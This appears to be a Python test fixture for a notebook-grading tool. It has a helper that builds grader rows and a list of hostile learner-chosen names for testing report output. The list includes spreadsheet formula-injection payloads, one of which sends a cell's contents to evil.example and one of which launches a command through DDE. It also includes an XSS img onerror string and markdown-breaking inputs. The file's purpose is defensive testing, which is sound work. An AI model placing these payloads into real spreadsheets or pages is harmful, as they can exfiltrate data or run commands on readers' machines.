"""Rows as the grader makes them (``checks.grading.rows.Row``, grades.csv's rows as data), and the
names a learner can choose to attack a report with."""

from __future__ import annotations

from checks.grading.rows import Row

# what a learner can choose: a folder name, an LMS display name, a notebook's file name
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "<img src=x onerror=alert(1)>",
    "ann | 35/35 | | x",
    "**bold** [link](http://evil.example) `code` &lt;",
]


def row(
    sub: str,
    nb: str,
    check: str,
    passed: bool,
    mistake: str = "",
    reason: str = "",
    note: str = "",
    feedback: str | None = None,
) -> Row:
    """A row as the grader makes it (its feedback the reason unless given)."""
    return Row(
        submission=sub,
        notebook=nb,
        check=check,
        passed=passed,
        mistake=mistake,
        reason=reason,
        note=note,
        feedback=reason if feedback is None else feedback,
    )
